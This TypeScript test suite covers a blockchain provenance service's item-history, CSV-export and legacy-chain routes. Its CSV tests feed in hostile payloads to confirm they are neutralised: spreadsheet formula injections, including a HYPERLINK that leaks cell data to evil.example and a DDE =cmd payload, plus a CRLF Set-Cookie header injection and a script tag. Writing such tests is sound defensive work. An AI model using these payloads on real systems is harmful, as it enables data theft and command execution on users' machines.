// Item provenance APIs, the address book and the legacy chain view (docs/design.md §7), through app.request().
import { expect } from 'chai'
import { generateKeyPairSync, sign } from 'node:crypto'
import { parse as parseCsv } from 'csv-parse/sync'
import { computeBlockHash } from '../src/core/block.js'
import { txLeafHash, verifyMerkleProof } from '../src/core/merkle.js'
import { signTx } from '../src/core/tx.js'
import { ed25519PublicKeyFromSeed, nodeEd25519Signer } from '../src/crypto/node-ed25519.js'
import { toHex } from '../src/core/bytes.js'
import type { Block, Ed25519Tx, Tx } from '../src/core/types.js'
import { CSV_COLUMNS, MAX_HISTORY_PAGE } from '../src/http/routes/item-routes.js'
import { mineOn, seedOf, TEST_NETWORK } from './helpers/fixtures.js'
import { killAll, NodeProcess } from '../src/devnet/index.js'
import { readChainAsLegacyFrontend, LegacyFrontendCrash } from './helpers/legacy-frontend.js'
import { call, GENESIS, NET, openHarness, type Harness } from './http-harness.js'

const BITS = TEST_NETWORK.bits
const FARM = toHex(ed25519PublicKeyFromSeed(seedOf(1)))
const SHOP = toHex(ed25519PublicKeyFromSeed(seedOf(2)))
const ADDRESS_BOOK = { farm_A: FARM, shop_C: SHOP }

let nonce = 0
function record (data: string, item: string | null, opts: { signer?: number, receiverPK?: string | null, timestamp?: number } = {}): Ed25519Tx {
  return signTx({
    data, item, receiverPK: opts.receiverPK ?? null, timestamp: opts.timestamp ?? TEST_NETWORK.genesisTimestamp + 100 + nonce, nonce: (++nonce).toString(16).padStart(32, '0')
  }, nodeEd25519Signer(seedOf(opts.signer ?? 1)), NET)
}

async function raw (h: Harness, path: string): Promise<Response> {
  return await h.app.request(path)
}

describe('item provenance routes', function () {
  let h: Harness
  let tip: Block

  async function mine (txs: Tx[]): Promise<Block> {
    tip = mineOn(tip, txs, BITS)
    await h.chain.submitBlock(tip)
    return tip
  }

  beforeEach(async () => {
    h = await openHarness({ addressBook: ADDRESS_BOOK })
    tip = GENESIS
  })
  afterEach(async () => {
    expect(h.internalErrors, 'no client input may reach a 500').to.deep.equal([])
    await h.close()
  })

  it('GET /address_book answers the configured names and keys', async () => {
    const r = await call(h.app, 'GET', '/address_book')
    expect(r.status).to.equal(200)
    expect(r.body).to.deep.equal(ADDRESS_BOOK)
  })

  describe('GET /items/:item/history', () => {
    it('answers the chain of custody oldest first, each record with header, confirmations and a proof that verifies', async () => {
      await mine([record('harvested 200 kg', 'lot-42', { receiverPK: SHOP })])
      await mine([record('unrelated', 'lot-43'), record('arrived at shop', 'lot-42', { signer: 2 })])
      await mine([])
      const r = await call(h.app, 'GET', '/items/lot-42/history')
      expect(r.status).to.equal(200)
      expect(r.body.item).to.equal('lot-42')
      expect(r.body.next).to.equal(null)
      expect(r.body.records.map((x: any) => x.tx.data)).to.deep.equal(['harvested 200 kg', 'arrived at shop'])
      expect(r.body.records.map((x: any) => x.confirmations)).to.deep.equal([2, 1])
      expect(r.body.records.map((x: any) => x.block.index)).to.deep.equal([1, 2])
      for (const x of r.body.records) {
        expect(Object.keys(x).sort()).to.deep.equal(['block', 'confirmations', 'proof', 'tx'])
        expect(x.block).to.include.keys('hash', 'index', 'timestamp', 'tx_root', 'previous_hash', 'nonce', 'bits', 'version')
        expect(computeBlockHash(x.block)).to.equal(x.block.hash)
        expect(verifyMerkleProof(txLeafHash(x.tx), x.proof, x.block.tx_root)).to.equal(true)
      }
    })

    it('answers 200 with no records for an unknown item', async () => {
      const r = await call(h.app, 'GET', '/items/never-seen/history')
      expect(r.status).to.equal(200)
      expect(r.body).to.deep.equal({ item: 'never-seen', records: [], next: null })
    })

    it('takes any item as a percent-encoded path segment: slashes, quotes, markup, emoji come back as the exact string', async () => {
      const items = ['a/b/../c', '<script>alert("x")</script>', 'crate 7 🍎', 'x/history', 'lot.csv', "it's \"quoted\"", '%41']
      await mine(items.map(item => record(`about ${item}`, item)))
      for (const item of items) {
        const r = await call(h.app, 'GET', `/items/${encodeURIComponent(item)}/history`)
        expect(r.status, item).to.equal(200)
        expect(r.body.item).to.equal(item)
        expect(r.body.records.map((x: any) => x.tx.data)).to.deep.equal([`about ${item}`])
      }
    })

    it('pages with limit and the cursor in next (keyset: stable while blocks are added)', async () => {
      for (let i = 0; i < 4; i++) await mine([record(`step ${i}`, 'pallet')])
      const first = await call(h.app, 'GET', '/items/pallet/history?limit=3')
      expect(first.body.records.map((x: any) => x.tx.data)).to.deep.equal(['step 0', 'step 1', 'step 2'])
      expect(first.body.next).to.equal('3.0')
      await mine([record('step 4', 'pallet')])
      const second = await call(h.app, 'GET', `/items/pallet/history?limit=3&after=${first.body.next as string}`)
      expect(second.body.records.map((x: any) => x.tx.data)).to.deep.equal(['step 3', 'step 4'])
      expect(second.body.next).to.equal(null)
    })

    it('BAD_ITEM, BAD_QUERY: an item no record can have, a bad limit or cursor', async () => {
      const tooLong = 'x'.repeat(129)
      for (const [path, code] of [
        [`/items/${tooLong}/history`, 'BAD_ITEM'],
        [`/items/${tooLong}/history.csv`, 'BAD_ITEM'],
        ['/items/lot/history?limit=0', 'BAD_QUERY'],
        [`/items/lot/history?limit=${MAX_HISTORY_PAGE + 1}`, 'BAD_QUERY'],
        ['/items/lot/history?limit=-1', 'BAD_QUERY'],
        ['/items/lot/history?after=12', 'BAD_QUERY'],
        ['/items/lot/history?after=1.2.3', 'BAD_QUERY'],
        ['/items/lot/history.csv?limit=10001', 'BAD_QUERY']
      ]) {
        const r = await call(h.app, 'GET', path)
        expect(r.status, path).to.equal(400)
        expect(r.body.code, path).to.equal(code)
      }
    })
  })

  describe('GET /items/:item/history.csv', () => {
    it('is RFC 4180: a header row, CRLF records, every hostile cell quoted and read back exactly by a strict parser', async () => {
      const hostile = 'comma, "quote", newline\nand CRLF\r\nend'
      await mine([record(hostile, 'lot,"7"\n', { receiverPK: SHOP })])
      await mine([record('plain', 'lot,"7"\n', { signer: 3, receiverPK: FARM })])
      const res = await raw(h, `/items/${encodeURIComponent('lot,"7"\n')}/history.csv`)
      expect(res.status).to.equal(200)
      expect(res.headers.get('content-type')).to.equal('text/csv; charset=utf-8; header=present')
      const text = await res.text()
      expect(text.endsWith('\r\n')).to.equal(true)
      const rows = parseCsv(text, { record_delimiter: '\r\n', relax_quotes: false, relax_column_count: false }) as string[][]
      expect(rows[0]).to.deep.equal([...CSV_COLUMNS])
      expect(rows).to.have.length(3)
      const history = (await call(h.app, 'GET', `/items/${encodeURIComponent('lot,"7"\n')}/history`)).body.records
      expect(rows[1]).to.deep.equal([
        new Date(history[0].tx.timestamp * 1000).toISOString(), '1', '1', 'farm_A', 'shop_C', 'lot,"7"\n', hostile, history[0].tx.id
      ])
      const stranger = toHex(ed25519PublicKeyFromSeed(seedOf(3)))
      expect(rows[2].slice(3, 7), 'unknown keys stay keys; known ones become names').to.deep.equal([stranger, 'farm_A', 'lot,"7"\n', 'plain'])
    })

    it('escapes formulas: a cell an attacker starts with = + - @ or TAB reaches a spreadsheet as text', async () => {
      const attacks = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+1+1', '-2+3', '@SUM(A1)', '\t=1', '＝1']
      await mine(attacks.map(a => record(a, '=cmd|\' /C calc\'!A0')))
      const rows = parseCsv(await (await raw(h, `/items/${encodeURIComponent('=cmd|\' /C calc\'!A0')}/history.csv`)).text(), { record_delimiter: '\r\n' }) as string[][]
      expect(rows.slice(1).map(r => r[6])).to.deep.equal(attacks.map(a => `'${a}`))
      expect(rows.slice(1).map(r => r[5])).to.deep.equal(attacks.map(() => '\'=cmd|\' /C calc\'!A0'))
      for (const row of rows.slice(1)) for (const cell of row) expect(cell, 'no cell starts a formula').to.not.match(/^[=+\-@\t\r＝]/)
    })

    it('names the download after the item without letting it into the header raw', async () => {
      const item = 'evil"\r\nSet-Cookie: x=1; é'
      await mine([record('x', item)])
      const res = await raw(h, `/items/${encodeURIComponent(item)}/history.csv`)
      expect(res.status).to.equal(200)
      expect(res.headers.get('set-cookie')).to.equal(null)
      expect(res.headers.get('content-disposition')).to.equal(
        'attachment; filename="evil___Set-Cookie__x_1___-history.csv"; filename*=UTF-8\'\'evil%22%0D%0ASet-Cookie%3A%20x%3D1%3B%20%C3%A9-history.csv')
    })

    it('caps a response at limit rows and links the rest with Link: rel="next"', async () => {
      for (let i = 0; i < 3; i++) await mine([record(`r${i}a`, 'box'), record(`r${i}b`, 'box')])
      const res = await raw(h, '/items/box/history.csv?limit=4')
      const rows = parseCsv(await res.text(), { record_delimiter: '\r\n' }) as string[][]
      expect(rows.slice(1).map(r => r[6])).to.deep.equal(['r0a', 'r0b', 'r1a', 'r1b'])
      expect(res.headers.get('link')).to.equal('</items/box/history.csv?after=2.1&limit=4>; rel="next"')
      const rest = await raw(h, '/items/box/history.csv?after=2.1&limit=4')
      expect(rest.headers.get('link')).to.equal(null)
      expect((parseCsv(await rest.text(), { record_delimiter: '\r\n' }) as string[][]).slice(1).map(r => r[6])).to.deep.equal(['r2a', 'r2b'])
    })

    it('answers only the header row for an unknown item', async () => {
      const res = await raw(h, '/items/none/history.csv')
      expect(res.status).to.equal(200)
      expect(await res.text()).to.equal(CSV_COLUMNS.map(c => `"${c}"`).join(',') + '\r\n')
    })
  })
})

describe('legacy chain view (config legacyChainView)', function () {
  // The original frontend's hard-coded address book: RSA public keys (PEM) -> entity names.
  const entities = ['farm', 'carrier', 'shop'].map(name => {
    const { publicKey, privateKey } = generateKeyPairSync('rsa', { modulusLength: 1024 })
    return { name, pem: publicKey.export({ type: 'spki', format: 'pem' }).toString(), privateKey }
  })
  const book = new Map(entities.map(e => [e.pem, e.name]))
  /** What the original frontend posts: data = item|receiverPEM, RSA PKCS#1 v1.5 / SHA-256, signature latin-1. */
  const legacyPost = (from: number, item: string, to: number): { senderPK: string, signature: string, data: string } => {
    const data = `${item}|${entities[to].pem}`
    return { senderPK: entities[from].pem, signature: sign('sha256', Buffer.from(data), entities[from].privateKey).toString('latin1'), data }
  }
  const strayLegacy = (data: string): { senderPK: string, signature: string, data: string } =>
    ({ senderPK: entities[0].pem, signature: sign('sha256', Buffer.from(data), entities[0].privateKey).toString('latin1'), data })

  async function fill (h: Harness): Promise<void> {
    for (const body of [legacyPost(0, 'apples-1', 1), record('native record with | a bar', 'apples-1'), strayLegacy('no bar here'), legacyPost(1, 'apples-1', 2)]) {
      const r = await call(h.app, 'POST', '/new_transaction', body)
      expect(r.status, JSON.stringify(r.body)).to.equal(201)
    }
    const mined = await call(h.app, 'POST', '/mine')
    expect(mined.status).to.equal(200)
    for (const body of [record('pending native', null), legacyPost(2, 'apples-1', 0)]) {
      expect((await call(h.app, 'POST', '/new_transaction', body)).status).to.equal(201)
    }
  }

  it('without it, one native record on the chain crashes the original frontend (the problem it solves)', async () => {
    const h = await openHarness()
    try {
      await fill(h)
      const chain = await call(h.app, 'GET', '/chain')
      expect(() => readChainAsLegacyFrontend(chain.body, book)).to.throw(LegacyFrontendCrash)
      const asked = await call(h.app, 'GET', '/chain?view=legacy')
      expect(readChainAsLegacyFrontend(asked.body, book)).to.have.length(2)
    } finally {
      await h.close()
    }
  })

  it('with it, the frontend reads /chain and /pending_tx with native records on the chain; everything else still shows them', async () => {
    const h = await openHarness({ legacyChainView: true })
    try {
      await fill(h)
      const chain = await call(h.app, 'GET', '/chain')
      expect(chain.status).to.equal(200)
      expect(chain.body.length).to.equal(2)
      const posts = readChainAsLegacyFrontend(chain.body, book)
      expect(posts.map(p => `${p.item} -> ${p.receiver}`).sort()).to.deep.equal(['apples-1 -> carrier', 'apples-1 -> shop'])
      expect(posts.every(p => p.index === 1 && p.hash === GENESIS.hash)).to.equal(true)

      const pending = await call(h.app, 'GET', '/pending_tx')
      expect(readChainAsLegacyFrontend({ chain: [{ index: 2, previous_hash: '', transactions: pending.body }] }, book).map(p => p.receiver)).to.deep.equal(['farm'])

      // ?view=full (what the page asks for) shows everything; ?view=legacy works on any node.
      const full = await call(h.app, 'GET', '/chain?view=full')
      expect(full.body.chain[1].transactions).to.have.length(4)
      expect((await call(h.app, 'GET', '/pending_tx?view=full')).body).to.have.length(2)
      expect((await call(h.app, 'GET', '/chain?view=other')).status).to.equal(400)

      // The full record stays everywhere else: the block itself, the item's history, the sync routes.
      const block = await call(h.app, 'GET', `/blocks/${chain.body.chain[1].hash as string}`)
      expect(block.body.transactions).to.have.length(4)
      const history = await call(h.app, 'GET', '/items/apples-1/history')
      expect(history.body.records.map((r: any) => r.tx.scheme)).to.deep.equal(['rsa-legacy', 'ed25519', 'rsa-legacy'])
    } finally {
      await h.close()
    }
  })
})

describe('legacy chain view on a real node (gossipchain start --legacy-chain-view)', function () {
  this.timeout(60_000)
  after(async () => { await killAll() })

  it('the original frontend reads the node\'s /chain with native records on it', async () => {
    const { publicKey, privateKey } = generateKeyPairSync('rsa', { modulusLength: 1024 })
    const pem = publicKey.export({ type: 'spki', format: 'pem' }).toString()
    const data = `crate-9|${pem}`
    const node = await NodeProcess.start({ extraArgs: ['--legacy-chain-view', '--network', TEST_NETWORK.name] })
    expect((await node.post('/new_transaction', { senderPK: pem, signature: sign('sha256', Buffer.from(data), privateKey).toString('latin1'), data })).status).to.equal(201)
    expect((await node.post('/new_transaction', record('a native record', 'crate-9'))).status).to.equal(201)
    expect((await node.post('/mine')).status).to.equal(200)
    const posts = readChainAsLegacyFrontend(await node.get('/chain'), new Map([[pem, 'farm']]))
    expect(posts.map(p => [p.item, p.receiver])).to.deep.equal([['crate-9', 'farm']])
    expect((await node.get('/items/crate-9/history')).records).to.have.length(2)
  })
})
